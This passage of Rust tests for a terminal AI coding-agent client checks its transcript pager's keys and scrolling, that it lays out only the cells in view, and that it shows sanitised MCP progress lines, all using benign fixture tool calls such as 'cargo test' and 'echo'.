    let mut whole = String::new();
    app.hook_trust.as_mut().unwrap().scroll = 0;
    for _ in 0..8 {
        whole.push_str(&draw(&app, 60, 16, clock.now()));
        update_at(
            &mut app,
            AppEvent::Key(KeyEvent::new(KeyCode::Down, KeyModifiers::NONE)),
            clock.now(),
        );
    }
    assert!(whole.contains("END-OF-COMMAND"), "{whole}");
}

/// Issue 28: Alt-O (or F4) opens the transcript pager: every output, diff and reasoning
/// expanded; it opens at the end, scrolls by line, page and to the ends, and q closes it.
#[test]
fn the_pager_shows_the_whole_transcript_expanded_and_scrolls() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    app.size = (80, 24);
    let output: String = (1..=30)
        .map(|i| format!("test case {i} ... ok\n"))
        .collect();
    let mut edit = tool(
        &clock,
        "str_replace",
        "src/lib.rs",
        ToolStatus::Done { approved: false },
        Some("Replaced 1 occurrence in src/lib.rs"),
    );
    if let Cell::Tool(t) = &mut edit {
        let old: String = (0..12).map(|i| format!("old line {i}\n")).collect();
        let new: String = (0..12).map(|i| format!("new line {i}\n")).collect();
        t.diff = rein_core::checkpoint::diff::short(&old, &new, 200);
    }
    app.transcript.cells = vec![
        Cell::user("Run the tests, then fix lib.rs."),
        Cell::reasoning("First the tests.\nThen the edit.", true),
        tool(
            &clock,
            "bash",
            "cargo test",
            ToolStatus::Done { approved: false },
            Some(&output),
        ),
        edit,
        Cell::assistant("All 30 pass, and lib.rs is fixed.", true),
    ];
    let main = draw(&app, 80, 24, clock.now());
    assert!(
        main.contains("more lines (Ctrl-O)"),
        "folded on the main screen: {main}"
    );
    let key = |app: &mut App, code, modifiers| {
        update_at(
            app,
            AppEvent::Key(KeyEvent::new(code, modifiers)),
            clock.now(),
        )
    };
    key(&mut app, KeyCode::Char('o'), KeyModifiers::ALT);
    assert!(app.pager.is_some());
    let end = snapshot("pager_end_80x24", &app, 80, 24, clock.now());
    assert!(end.contains("Transcript, everything expanded"), "{end}");
    assert!(end.contains("+ new line 11"), "the diff whole: {end}");
    assert!(end.contains("All 30 pass"), "{end}");
    // Home: the top, with the reasoning and the whole output.
    key(&mut app, KeyCode::Home, KeyModifiers::NONE);
    let top = snapshot("pager_top_80x24", &app, 80, 24, clock.now());
    assert!(top.contains("Run the tests"), "{top}");
    assert!(
        top.contains("∴ First the tests."),
        "reasoning expanded: {top}"
    );
    assert!(top.contains("test case 1 ... ok"), "{top}");
    assert!(!top.contains("test case 30 ... ok"), "{top}");
    // A page down, then a line: further through the output.
    key(&mut app, KeyCode::PageDown, KeyModifiers::NONE);
    key(&mut app, KeyCode::Char('j'), KeyModifiers::NONE);
    let paged = draw(&app, 80, 24, clock.now());
    assert!(paged.contains("test case 30 ... ok"), "{paged}");
    assert!(!paged.contains("Run the tests"), "{paged}");
    // The main screen underneath is as it was; q closes.
    key(&mut app, KeyCode::Char('q'), KeyModifiers::NONE);
    assert!(app.pager.is_none());
    assert_eq!(draw(&app, 80, 24, clock.now()), main);
    // F4 opens it too, and Esc closes it.
    key(&mut app, KeyCode::F(4), KeyModifiers::NONE);
    assert!(app.pager.is_some());
    key(&mut app, KeyCode::Esc, KeyModifiers::NONE);
    assert!(app.pager.is_none());
}

/// What a pager frame costs follows the screen, not the session: over 20 000 cells, a
/// frame at the end or at the top measures only the cells around the view.
#[test]
fn a_pager_frame_lays_out_only_the_cells_in_view() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    let output: String = (1..=8).map(|i| format!("line {i}\n")).collect();
    for i in 0..20_000 {
        app.transcript.cells.push(tool(
            &clock,
            "bash",
            &format!("echo {i}"),
            ToolStatus::Done { approved: false },
            Some(&output),
        ));
    }
    app.pager = Some(rein::app::pager::Pager::default());
    let measured = |app: &App| {
        let pager = app.pager.as_ref().unwrap();
        let layout = pager.layout.borrow();
        layout.heights.iter().filter(|h| h.is_some()).count()
    };
    let screen = draw(&app, 80, 24, clock.now());
    assert!(screen.contains("echo 19999"), "{screen}");
    assert!(measured(&app) <= 24, "{}", measured(&app));
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::Home, KeyModifiers::NONE)),
        clock.now(),
    );
    let screen = draw(&app, 80, 24, clock.now());
    assert!(screen.contains("echo 0"), "{screen}");
    assert!(measured(&app) <= 48, "{}", measured(&app));
    let drawn = app.pager.as_ref().unwrap().layout.borrow().drawn.len();
    assert!(drawn <= 24, "{drawn}");
}

/// Issue 29: a running MCP call shows its server's latest progress or log line under its
/// own line (sanitised, one line), and the line goes when the call ends.
#[test]
fn a_running_mcp_call_shows_its_latest_progress_line() {
    let now = Instant::now();
    let mut app = App::new(info(), 128_000);
    let agent = |app: &mut App, event| update_at(app, AppEvent::Agent(event), now);
    agent(
        &mut app,
        AgentEvent::ToolCallStarted {
            id: "m1".into(),
            name: "mcp__docs__index".into(),
            args: serde_json::json!({"path": "src"}),
        },
    );
    for text in ["1/3 reading", "2/3 indexing \u{1b}[31mred"] {
        agent(
            &mut app,
            AgentEvent::ToolProgress {
                id: "m1".into(),
                text: text.into(),
            },
        );
    }
    let screen = snapshot("mcp_progress_80x10", &app, 80, 10, now);
    assert!(screen.contains("│ 2/3 indexing"), "{screen}");
    assert!(!screen.contains("1/3 reading"), "{screen}");
    assert!(!screen.contains('\u{1b}'));
    agent(
        &mut app,
        AgentEvent::ToolFinished {
            id: "m1".into(),
            name: "mcp__docs__index".into(),
            result: "indexed".into(),
            is_error: false,
            outcome: rein_core::agent::ToolOutcome::Ok,
            duration: Duration::from_millis(900),
            stored: None,
        },
    );
    // A late report of a finished call changes nothing.
    agent(
        &mut app,
        AgentEvent::ToolProgress {
            id: "m1".into(),
            text: "3/3 late".into(),
        },
    );
    let screen = draw(&app, 80, 10, now);
    assert!(
        !screen.contains("indexing") && !screen.contains("late"),
        "{screen}"
    );
    assert!(screen.contains("indexed"), "{screen}");
}
